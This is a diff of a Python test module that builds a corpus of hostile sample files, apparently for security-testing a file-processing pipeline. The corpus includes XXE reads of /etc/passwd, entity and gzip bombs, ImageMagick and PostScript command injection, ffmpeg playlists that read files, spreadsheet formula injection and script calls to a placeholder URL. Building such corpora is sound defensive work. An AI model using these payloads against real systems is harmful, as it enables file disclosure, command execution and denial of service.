@@ -11,6 +11,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable
+from functools import partial
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, Pdf, String
@@ -31,38 +32,40 @@ def svg(body: str, head: str = "") -> bytes:
     return f'<?xml version="1.0"?>{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{body}</svg>'.encode()
 
 
-TEXTS: dict[str, Callable[[], bytes]] = {
-    "svg with a script": lambda: svg(f'<script>fetch("{URL}")</script>'),
-    "svg with a remote picture": lambda: svg(f'<image xlink:href="{URL}.png"/>'),
-    "svg with an outer entity": lambda: svg("<text>&e;</text>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
-    "svg of a billion laughs": lambda: svg("&j;", "<!DOCTYPE svg [" + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)) + '<!ENTITY a "ha">]>'),
-    "html with a script": lambda: f'<script src="{URL}.js"></script><img src="{URL}.png">'.encode(),
-    "html that moves on": lambda: f'<meta http-equiv="refresh" content="0;url={URL}">'.encode(),
-    "html in utf-16": lambda: f'<img src="{URL}">'.encode("utf-16"),
-    "a mail with a page": lambda: f"MIME-Version: 1.0\nContent-Type: text/html\n\n<img src={URL}>".encode(),
-    "imagemagick's mvg": lambda: f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({URL}\"|touch /tmp/owned\")'\npop graphic-context".encode(),
-    "imagemagick's msl": lambda: f'<?xml version="1.0"?><image><read filename="{URL}"/><write filename="/tmp/owned"/></image>'.encode(),
-    "postscript that runs": lambda: b"%!PS\n(%pipe%touch /tmp/owned) (w) file\n",
-    "a playlist": lambda: f"#EXTM3U\n#EXTINF:1,\n{URL}.ts\n#EXT-X-ENDLIST".encode(),
-    "a playlist that reads files": lambda: b"#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|file:///etc/hostname\n#EXT-X-ENDLIST",
-    "a list for ffmpeg": lambda: b"ffconcat version 1.0\nfile /etc/passwd\n",
-    "a manifest of a film": lambda: f'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{URL}</BaseURL></MPD>'.encode(),
-    "a session of a stream": lambda: b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 8099 RTP/AVP 96\n",
-    "formulas": lambda: f"=cmd|' /C calc'!A0,+1,-1,@SUM(1),=WEBSERVICE(\"{URL}\")\n".encode(),
+TEXTS: dict[str, bytes] = {
+    "svg with a script": svg(f'<script>fetch("{URL}")</script>'),
+    "svg with a remote picture": svg(f'<image xlink:href="{URL}.png"/>'),
+    "svg with an outer entity": svg("<text>&e;</text>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
+    "svg of a billion laughs": svg("&j;", "<!DOCTYPE svg [" + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)) + '<!ENTITY a "ha">]>'),
+    "html with a script": f'<script src="{URL}.js"></script><img src="{URL}.png">'.encode(),
+    "html that moves on": f'<meta http-equiv="refresh" content="0;url={URL}">'.encode(),
+    "html in utf-16": f'<img src="{URL}">'.encode("utf-16"),
+    "a mail with a page": f"MIME-Version: 1.0\nContent-Type: text/html\n\n<img src={URL}>".encode(),
+    "imagemagick's mvg": f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({URL}\"|touch /tmp/owned\")'\npop graphic-context".encode(),
+    "imagemagick's msl": f'<?xml version="1.0"?><image><read filename="{URL}"/><write filename="/tmp/owned"/></image>'.encode(),
+    "postscript that runs": b"%!PS\n(%pipe%touch /tmp/owned) (w) file\n",
+    "a playlist": f"#EXTM3U\n#EXTINF:1,\n{URL}.ts\n#EXT-X-ENDLIST".encode(),
+    "a playlist that reads files": b"#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|file:///etc/hostname\n#EXT-X-ENDLIST",
+    "a list for ffmpeg": b"ffconcat version 1.0\nfile /etc/passwd\n",
+    "a manifest of a film": f'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{URL}</BaseURL></MPD>'.encode(),
+    "a session of a stream": b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=video 8099 RTP/AVP 96\n",
+    "formulas": f"=cmd|' /C calc'!A0,+1,-1,@SUM(1),=WEBSERVICE(\"{URL}\")\n".encode(),
+    "halves of characters": b"\xed\xa0\x80\xed\xbf\xbf" * 1000,
+    "a hundred thousand combining marks": ("e" + "\u0301" * 100_000).encode(),
+    "turned text": "invented\u202egpj.exe\U000e0041\u2066".encode(),
+    "json a hundred thousand deep": b"[" * 100_000,
+    "zeros": bytes(MIB),
+    "nothing": b"",
+    "one byte": b"\xff",
+    "a program": b"\x7fELF\x02\x01\x01" + bytes(100),
+    "a shell script": b"#!/bin/sh\ntouch /tmp/owned\n",
+    "a desktop entry": b"[Desktop Entry]\nType=Application\nExec=touch /tmp/owned\n",
+    "rich text with an object": b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}}",
+    "an old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
+}
+LARGE: dict[str, Callable[[], bytes]] = {
     "one line of 100 MB": lambda: b"a" * (100 * MIB),
-    "halves of characters": lambda: b"\xed\xa0\x80\xed\xbf\xbf" * 1000,
-    "a hundred thousand combining marks": lambda: ("e" + "\u0301" * 100_000).encode(),
-    "turned text": lambda: "invented\u202egpj.exe\U000e0041\u2066".encode(),
-    "json a hundred thousand deep": lambda: b"[" * 100_000,
-    "zeros": lambda: bytes(MIB),
-    "nothing": lambda: b"",
-    "one byte": lambda: b"\xff",
-    "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(100),
-    "a shell script": lambda: b"#!/bin/sh\ntouch /tmp/owned\n",
-    "a desktop entry": lambda: b"[Desktop Entry]\nType=Application\nExec=touch /tmp/owned\n",
     "a gzip bomb": lambda: zlib.compress(bytes(100 * MIB), 9, 31),
-    "rich text with an object": lambda: b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}}",
-    "an old office file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
 }
 
 
@@ -223,9 +226,9 @@ DOCUMENTS: dict[str, Callable[[], bytes]] = {
     "pdf with xfa": lambda: document(_xfa),
     "pdf with a file and a path in its name": lambda: document(_embedded),
     "pdf with an outer picture": contents(DO, A=picture(b"", 8, Name.DCTDecode, F=Dictionary(FS=Name.URL, F=String(URL)))),
-    "pdf with a picture of a gigabyte": lambda: contents(DO, A=picture(zeros_deflated(1024 * MIB), 32_000, Name.FlateDecode))(),
+    "pdf with a picture of a gigabyte": lambda: contents(DO, A=picture(zeros_deflated(1024 * MIB), 32_000, Name.FlateDecode))(),  # noqa: PLW0108 - made only when asked for
     "pdf with a picture that lies": contents(DO, A=picture(b"\0", 60_000, Name.FlateDecode)),
-    "pdf with a page of half a gigabyte": lambda: contents(zeros_deflated(512 * MIB), coding=Name.FlateDecode)(),
+    "pdf with a page of half a gigabyte": lambda: contents(zeros_deflated(512 * MIB), coding=Name.FlateDecode)(),  # noqa: PLW0108 - made only when asked for
     "pdf with a broken jbig2": contents(DO, A=picture(b"\0\0\0\0\x30\0\1" + b"\xff" * 400, 64, Name.JBIG2Decode, BitsPerComponent=1)),
     "pdf with a broken jpeg 2000": contents(DO, A=picture(b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 400, 64, Name.JPXDecode)),
     "pdf of a million strokes": contents(b"0 0 m " + b"9 9 l 1 2 3 4 5 6 c " * 1_000_000 + b"S"),
@@ -361,7 +364,7 @@ def wav(length: int, data: bytes = b"", channels: int = 1, rate: int = 8000) -> 
 
 def avi_with_playlist() -> bytes:
     """A playlist as subtitles of an AVI: how ffmpeg was once made to read files."""
-    return b"RIFF\0\1\0\0AVI LIST\x14\0\0\0hdrlavih" + bytes(40) + b"GAB2\0\2\0" + TEXTS["a playlist"]()
+    return b"RIFF\0\1\0\0AVI LIST\x14\0\0\0hdrlavih" + bytes(40) + b"GAB2\0\2\0" + TEXTS["a playlist"]
 
 
 EBML = b"\x1aE\xdf\xa3"
@@ -396,5 +399,5 @@ def _nested(depth: int) -> bytes:
     return body
 
 
-CORPUS: dict[str, Callable[[], bytes]] = {**TEXTS, **PICTURES, **DOCUMENTS, **OFFICE, **SOUNDS}
+CORPUS: dict[str, Callable[[], bytes]] = {**{name: partial(bytes, data) for name, data in TEXTS.items()}, **LARGE, **PICTURES, **DOCUMENTS, **OFFICE, **SOUNDS}
 
